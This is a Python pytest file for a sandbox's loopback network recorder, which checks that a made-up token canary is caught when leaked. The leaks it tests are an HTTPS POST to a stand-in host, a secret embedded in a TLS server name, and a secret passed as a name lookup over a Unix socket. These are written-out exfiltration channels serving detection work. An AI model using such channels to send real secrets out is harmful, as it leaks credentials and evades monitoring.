"""The harm jail's loopback internet (gatesh/testing/_loopback.py) and what secret-sent makes of
what it records: a canary sent over TLS is seen decrypted, with the server name asked; one asked
of a resolver's Unix-socket stand-in is seen too; plain HTTP on the same port still is.

The listeners run here, in this process, on loopback ports the kernel picks; the clients are
Python's own and send made-up canaries, nothing of the host's. The TLS tests are slow: they make
keys with the ``openssl`` program.
"""

from __future__ import annotations

import http.client
import shutil
import socket
import ssl
import struct
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from gatesh.testing import _loopback, harm
from gatesh.testing.observed import Observed, Received
from gatesh.testing.world import Seed

CANARY = "ghp_canaryTLS0123456789abcdefABCDEF0123"


def _seed() -> Seed:
    return Seed(
        canaries={"env": CANARY},
        unpushed="",
        stash="",
        blobs={},
        remote_refs={},
        remote_objects=(),
        codex_trusted=False,
        git_configs={},
    )


def _sent(received: tuple[Received, ...]) -> list[str]:
    found = harm.judge(_seed(), Observed(ok=True, received=received)).findings
    return [f.why for f in found if f.predicate is harm.Predicate.SECRET_SENT]


def test_secret_sent_names_a_tls_connection_a_server_name_and_a_unix_socket() -> None:
    body = f"POST / HTTP/1.1\r\n\r\n{CANARY}".encode()
    assert _sent((Received(443, body, tls=True),)) == [
        "the env canary in a TLS connection to port 443"
    ]
    assert _sent(
        (Received(443, b"GET / HTTP/1.1\r\n\r\n", tls=True, sni=f"{CANARY}.t.example"),)
    ) == ["the env canary in the server name sent to port 443"]
    nscd = struct.pack("=iii", 2, 14, 50) + f"{CANARY}.t.example\0".encode()
    assert _sent((Received(0, nscd, path="/run/nscd/socket"),)) == [
        "the env canary in a connection to the Unix socket /run/nscd/socket"
    ]
    assert _sent((Received(443, b"\x16\x03\x01 handshake only"),)) == []


def _wait(records: _loopback.Records, n: int) -> list[_loopback.Conn]:
    for _ in range(200):
        with records.lock:
            done = [c for c in records.conns if c.data]
        if len(done) >= n:
            time.sleep(0.05)
            return done
        time.sleep(0.02)
    return done


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[_loopback.Tls, int, str, _loopback.Records]]:
    if shutil.which("openssl") is None:
        pytest.skip("needs the openssl program (Debian: apt-get install openssl)")
    tls = _loopback.Tls(str(tmp_path))
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    port = listener.getsockname()[1]
    nscd = socket.socket(socket.AF_UNIX)
    nscd.bind(str(tmp_path / "nscd"))
    nscd.listen(4)
    records = _loopback.start_recorders(
        [("tcp", port, listener.detach())], set(), tls, [("nscd", "/run/nscd/socket", nscd)]
    )
    yield tls, port, str(tmp_path / "nscd"), records
    nscd.close()


@pytest.mark.slow
def test_an_https_upload_is_recorded_decrypted_with_the_name_asked(
    served: tuple[_loopback.Tls, int, str, _loopback.Records],
) -> None:
    tls, port, _, records = served
    trusting = ssl.create_default_context(cafile=tls.ca_cert)
    raw = socket.create_connection(("127.0.0.1", port))
    conn = http.client.HTTPSConnection("metrics.example", port, context=trusting)
    conn.sock = trusting.wrap_socket(raw, server_hostname="metrics.example")
    conn.request("POST", "/v1", body=CANARY.encode())
    assert conn.getresponse().status == 200
    unverified = http.client.HTTPSConnection(
        "127.0.0.1", port, context=ssl._create_unverified_context()
    )
    unverified.request("POST", "/", body=b"second")
    assert unverified.getresponse().status == 200
    plain = http.client.HTTPConnection("127.0.0.1", port)
    plain.request("POST", "/", body=b"third")
    assert plain.getresponse().status == 200
    got = _wait(records, 3)
    by_end = {bytes(c.data).rsplit(b"\n", 1)[-1]: c for c in got}
    assert by_end[CANARY.encode()].tls and by_end[CANARY.encode()].sni == "metrics.example"
    assert by_end[b"second"].tls and by_end[b"second"].sni == ""
    assert not by_end[b"third"].tls


@pytest.mark.slow
def test_a_client_that_distrusts_the_certificate_sends_nothing_readable(
    served: tuple[_loopback.Tls, int, str, _loopback.Records],
) -> None:
    _, port, _, records = served
    distrusting = ssl.create_default_context()  # the host's CAs: not the jail's
    raw = socket.create_connection(("127.0.0.1", port))
    with pytest.raises(ssl.SSLError):
        distrusting.wrap_socket(raw, server_hostname=f"{CANARY.lower()}.t.example")
    raw.close()
    time.sleep(0.3)
    with records.lock:
        (conn,) = records.conns
        # nothing of the body arrived readable, but the name the client sent did
        assert not conn.tls and conn.sni == f"{CANARY.lower()}.t.example"
        assert CANARY.encode() not in bytes(conn.data)


@pytest.mark.slow
def test_the_name_cache_stand_in_records_a_lookup_and_answers_nothing(
    served: tuple[_loopback.Tls, int, str, _loopback.Records],
) -> None:
    _, _, path, records = served
    key = f"{CANARY[:40]}.t.example\0".encode()
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
        client.sendall(struct.pack("=iii", 2, 14, len(key)) + key)
        client.settimeout(5)
        assert client.recv(64) == b""  # closed unanswered: libc does without it
    (conn,) = _wait(records, 1)
    assert conn.path == "/run/nscd/socket" and conn.port == 0 and bytes(conn.data).endswith(key)
